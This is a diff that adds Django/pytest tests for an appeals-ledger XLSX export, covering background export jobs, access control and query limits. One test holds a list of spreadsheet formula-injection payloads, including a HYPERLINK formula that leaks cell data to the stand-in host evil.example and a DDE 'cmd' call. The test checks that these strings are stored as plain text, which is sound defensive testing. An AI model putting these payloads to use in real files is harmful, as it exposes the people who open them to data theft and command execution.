@@ -1,13 +1,20 @@
 """The ledger (台帐): a spreadsheet of the caller's visible appeals, read back cell by cell."""
 
 import datetime as dt
+import html
 import io
+import re
+import zipfile
 
 import pytest
 import time_machine
+from django.test import Client
 from openpyxl import load_workbook
 
 from qitong.appeals import actions
+from qitong.core import jobs
+from qitong.core.models import Job
+from qitong.notify.models import Message
 from tests.appeals.conftest import at
 from tests.conftest import client_for
 
@@ -136,3 +143,111 @@ def test_enterprises_have_no_ledger(city):
     response = client_for(city.ent_user).get("/api/v1/appeals/ledger.xlsx")
     assert response.status_code == 403
     assert response.json()["error"] == "forbidden"
+
+
+# What an outside probe filed as titles and names: each must reach the sheet as plain text.
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?d="&B2&C2,"点击查看附件")',
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "+1",
+    "-1",
+]
+
+
+def test_enterprise_text_reaches_the_ledger_as_text_never_a_formula(city):
+    city.company.name = '=HYPERLINK("http://evil.example","企业")'
+    city.company.save(update_fields=["name"])
+    filed = {payload: city.file(title=payload).number for payload in PAYLOADS}
+    response = client_for(city.office_user).get("/api/v1/appeals/ledger.xlsx")
+    data = b"".join(response.streaming_content)
+
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        xml = package.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
+    sheet = load_workbook(io.BytesIO(data)).active
+    titles = {row[0].value: row[3] for row in sheet.iter_rows(min_row=2)}
+    for payload, number in filed.items():
+        assert titles[number].value == payload
+        assert titles[number].data_type == "s"
+    assert sheet["B2"].value == city.company.name and sheet["B2"].data_type == "s"
+
+
+def test_the_ledger_reads_a_bounded_number_of_queries_however_many_rows(
+    city, django_assert_max_num_queries
+):
+    for _n in range(12):
+        city.dispatched(when=at("2026-11-02 10:00"), mode="coordinated", lead="fgw", co=["gxj"])
+    with django_assert_max_num_queries(10):
+        rows = sheet_of(client_for(city.office_user).get("/api/v1/appeals/ledger.xlsx"))
+    assert len(rows) == 12
+    assert {row["协办单位"] for row in rows.values()} == {"市工业和信息化局"}
+
+
+@pytest.fixture
+def small_threshold(settings):
+    settings.QITONG_EXPORT_JOB_ROWS = 2
+
+
+def test_a_large_ledger_is_made_by_a_job_whose_creator_alone_downloads_it(
+    city, cases, small_threshold
+):
+    contacted, silent, waiting = cases
+    office = client_for(city.office_user)
+    with time_machine.travel(at("2026-11-04 09:00"), tick=False):
+        response = office.get("/api/v1/appeals/ledger.xlsx")
+        assert response.status_code == 202
+        body = response.json()
+        assert body["status"] == "queued" and body["download"] is None
+        assert response["Location"] == body["url"] == f"/api/v1/jobs/{body['id']}"
+        # Asking again while it waits gives the same job, not a second one.
+        assert office.get("/api/v1/appeals/ledger.xlsx").json()["id"] == body["id"]
+
+        assert jobs.run_queued() == [body["id"]]
+    done = office.get(body["url"]).json()
+    assert done["status"] == "done"
+    assert done["progress"] == {"done": 3, "total": 3, "percent": 100}
+    rows = sheet_of(office.get(done["download"]))
+    assert set(rows) == {contacted.number, silent.number, waiting.number}
+    assert rows[contacted.number]["按时联系"] == "是"  # judged at the instant it was asked for
+
+    message = Message.objects.get(recipient=city.office_user, kind="export_ready")
+    assert message.url == f"/jobs/{body['id']}/"
+    assert "3" in message.body
+
+    stranger = client_for(city.leader_user)
+    assert stranger.get(body["url"]).status_code == 404
+    assert stranger.get(done["download"]).status_code == 404
+
+
+def test_a_small_ledger_still_comes_at_once_and_the_job_keeps_the_filters(
+    city, cases, small_threshold
+):
+    contacted, silent, _waiting = cases
+    office = client_for(city.office_user)
+    assert set(sheet_of(office.get("/api/v1/appeals/ledger.xlsx", {"unit": "gxj"}))) == {
+        silent.number
+    }
+    city.dispatched(when=at("2026-11-03 10:00"), lead="gxj")
+    city.dispatched(when=at("2026-11-03 10:00"), lead="gxj")
+    response = office.get("/api/v1/appeals/ledger.xlsx", {"unit": "gxj"})
+    assert response.status_code == 202
+    jobs.run_queued()
+    job = Job.objects.get(pk=response.json()["id"])
+    assert job.status == "done" and job.total == 3
+    rows = sheet_of(office.get(response.json()["url"] + "/download"))
+    assert silent.number in rows and contacted.number not in rows
+
+
+def test_the_workbench_export_link_leads_a_browser_to_the_jobs_page(city, cases, small_threshold):
+    browser = Client()
+    browser.force_login(city.office_user)
+    workbench = browser.get("/office/queues/?queue=all").content.decode()
+    link = re.search(r'href="([^"]*)" data-testid="export"', workbench).group(1)
+    response = browser.get(html.unescape(link), HTTP_ACCEPT="text/html,application/xhtml+xml")
+    assert response.status_code == 303
+    page = browser.get(response["Location"])
+    assert page.status_code == 200
+    assert "导出诉求台帐" in page.content.decode()
+    assert 'hx-trigger="every 2s"' in page.content.decode()
